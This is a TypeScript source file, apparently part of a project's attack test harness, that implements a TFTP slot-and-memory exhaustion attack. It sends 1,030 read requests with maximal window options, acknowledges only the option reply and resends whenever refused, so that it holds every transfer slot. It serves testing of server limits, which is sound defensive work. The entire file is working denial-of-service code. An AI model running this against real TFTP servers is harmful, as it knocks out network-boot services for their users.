// Issue #14 items 2 and 3 together: read requests for the largest window a server could grant
// (blksize 65464, RFC 2348; windowsize 64, RFC 7440) with the longest client timeout (255 s,
// RFC 2349), each from its own UDP port, acknowledging only the OACK (block 0) and nothing after.
// Before the limits each one made the server hold a 4 MiB window (and read 4 MiB ahead for a file
// not in memory) for minutes, and 1,030 of them from one address took every transfer slot.
//
// Behaviour, per requesting socket (scale 1: 1,030 of them, spread over the source addresses):
//   - RRQ; an OACK is acknowledged (ACK 0) and the transfer held: its DATA is read and dropped,
//     never acknowledged;
//   - a refusal (any ERROR before an OACK: "busy", not found) is counted and the RRQ is sent again
//     after RETRY_MS, so the attack takes every slot the server frees;
//   - a held transfer the server ends (ERROR on its TID, e.g. "timed out") is asked for again at once;
//   - an RRQ with no answer within ANSWER_MS is sent again (the listening socket may drop a burst).
// The file asked for is the first of `files` the server answers with an OACK or DATA (probed once
// at start): by default netroot's installer initrd (boot.installInitrd, the largest boot file),
// then its kernel and the iPXE binaries.
import { createSocket, type Socket } from 'node:dgram';
import { decodeTftp, encodeTftp, type TftpPacket } from '../../src/tftp/packet.js';
import type { Attack, AttackTarget, RunningAttack } from './types.js';

/** The filed scale: 1,030 requests (one over the old 1,024-transfer cap and then some). */
export const REQUESTS = 1030;
const RETRY_MS = 1000;
const ANSWER_MS = 3000;
/** RRQs sent per turn of the event loop at start (a listening socket drops a larger burst). */
const BATCH = 32;
export const DEFAULT_FILES = ['install/initrd.img', 'install/vmlinuz', 'ipxe.efi', 'undionly.kpxe'] as const;

const OPTIONS: ReadonlyMap<string, string> = new Map([
  ['blksize', '65464'],
  ['windowsize', '64'],
  ['timeout', '255'],
  ['tsize', '0'],
]);

type Stats = {
  /** RRQs sent (first ones, re-sends after a refusal, an end or silence). */
  requests: number;
  /** OACKs received (each acknowledged with ACK 0, then the transfer is held). */
  oacks: number;
  /** Transfers that started without an OACK (DATA 1 first): held too. */
  dataFirst: number;
  /** ERROR answers before an OACK: "busy" and any other refusal. */
  refusals: number;
  busy: number;
  /** Transfers held right now. */
  held: number;
  /** The most transfers held at once. */
  heldPeak: number;
  /** Held transfers the server ended (ERROR on the transfer's TID: it gave up on us). */
  ended: number;
  /** DATA bytes the server sent to the attack. */
  dataBytes: number;
  /** The largest blksize × windowsize an OACK granted. */
  maxWindowBytes: number;
  sockets: number;
};

type State = 'asking' | 'held' | 'waiting';

interface Requester {
  socket: Socket;
  state: State;
  timer: NodeJS.Timeout | undefined;
}

async function openSocket(source: string): Promise<Socket> {
  const s = createSocket('udp4');
  await new Promise<void>((resolve, reject) => {
    s.once('error', reject);
    s.bind(0, source, () => {
      s.off('error', reject);
      resolve();
    });
  });
  s.on('error', () => {}); // ICMP port unreachable and the like: the attack goes on
  return s;
}

function decode(msg: Buffer): TftpPacket | null {
  try {
    return decodeTftp(msg);
  } catch {
    return null;
  }
}

/** The first of `files` the server starts a transfer for; the probe transfer is ended at once. */
async function probe(t: AttackTarget, source: string, files: readonly string[]): Promise<string> {
  const s = await openSocket(source);
  try {
    for (const file of files) {
      const answer = await new Promise<{ p: TftpPacket | null; port: number }>((resolve) => {
        const timer = setTimeout(() => resolve({ p: null, port: 0 }), ANSWER_MS);
        s.removeAllListeners('message');
        s.on('message', (m, r) => {
          clearTimeout(timer);
          resolve({ p: decode(m), port: r.port });
        });
        s.send(encodeTftp({ op: 'RRQ', filename: file, mode: 'octet', options: new Map(OPTIONS) }), t.tftpPort, t.host);
      });
      if (answer.p?.op === 'OACK' || answer.p?.op === 'DATA') {
        await new Promise<void>((r) => s.send(encodeTftp({ op: 'ERROR', code: 0, message: 'probe done' }), answer.port, t.host, () => r()));
        return file;
      }
    }
  } finally {
    s.close();
  }
  throw new Error(`tftp-hold: the server at ${t.host}:${t.tftpPort} serves none of ${files.join(', ')}`);
}

export function tftpHold(o: { files?: readonly string[] } = {}): Attack {
  return {
    name: 'tftp-hold',
    what: 'issue #14 items 2 and 3: RRQs for blksize 65464 × windowsize 64 with timeout 255 that acknowledge only the OACK, holding server memory and every transfer slot from one address',
    async start(t, opts): Promise<RunningAttack> {
      const total = Math.max(1, Math.round(REQUESTS * (opts?.scale ?? 1)));
      const sources = t.sourceAddresses && t.sourceAddresses.length > 0 ? t.sourceAddresses : ['0.0.0.0'];
      const file = await probe(t, sources[0]!, o.files ?? DEFAULT_FILES);
      const rrq = encodeTftp({ op: 'RRQ', filename: file, mode: 'octet', options: new Map(OPTIONS) });
      const ack0 = encodeTftp({ op: 'ACK', block: 0 });
      const st: Stats = {
        requests: 0,
        oacks: 0,
        dataFirst: 0,
        refusals: 0,
        busy: 0,
        held: 0,
        heldPeak: 0,
        ended: 0,
        dataBytes: 0,
        maxWindowBytes: 0,
        sockets: 0,
      };
      const all: Requester[] = [];
      let stopped = false;

      const later = (r: Requester, ms: number): void => {
        clearTimeout(r.timer);
        r.timer = stopped ? undefined : setTimeout(() => ask(r), ms);
      };
      const ask = (r: Requester): void => {
        if (stopped) return;
        if (r.state === 'held') {
          st.held--;
        }
        r.state = 'asking';
        st.requests++;
        r.socket.send(rrq, t.tftpPort, t.host);
        later(r, ANSWER_MS); // no answer: ask again
      };
      const holdIt = (r: Requester): void => {
        clearTimeout(r.timer);
        r.timer = undefined;
        r.state = 'held';
        st.held++;
        if (st.held > st.heldPeak) st.heldPeak = st.held;
      };
      const onMessage = (r: Requester, msg: Buffer, port: number): void => {
        if (stopped) return;
        const p = decode(msg);
        if (!p) return;
        if (p.op === 'DATA') {
          st.dataBytes += p.data.length;
          if (r.state === 'asking') {
            st.dataFirst++;
            holdIt(r);
          }
          return;
        }
        if (p.op === 'OACK' && r.state === 'asking') {
          st.oacks++;
          const w = Number(p.options.get('blksize') ?? 512) * Number(p.options.get('windowsize') ?? 1);
          if (w > st.maxWindowBytes) st.maxWindowBytes = w;
          r.socket.send(ack0, port, t.host);
          holdIt(r);
          return;
        }
        if (p.op === 'ERROR') {
          if (r.state === 'held') {
            st.ended++;
            ask(r);
          } else if (r.state === 'asking') {
            st.refusals++;
            if (p.code === 0 && /busy/i.test(p.message)) st.busy++;
            r.state = 'waiting';
            later(r, RETRY_MS);
          }
        }
      };

      for (let i = 0; i < total; i++) {
        const socket = await openSocket(sources[i % sources.length]!);
        const r: Requester = { socket, state: 'waiting', timer: undefined };
        socket.on('message', (m, ri) => onMessage(r, m, ri.port));
        all.push(r);
        st.sockets++;
        ask(r);
        // fixed delay: the attack's pace (a batch of sockets, then a pause), part of what it sends.
        if (i % BATCH === BATCH - 1) await new Promise((res) => setTimeout(res, 2));
      }

      return {
        stats: () => ({ ...st }),
        async stop() {
          stopped = true;
          await Promise.all(
            all.map(
              (r) =>
                new Promise<void>((res) => {
                  clearTimeout(r.timer);
                  try {
                    r.socket.close(() => res());
                  } catch {
                    res();
                  }
                }),
            ),
          );
        },
      };
    },
  };
}

export const attack: Attack = tftpHold();
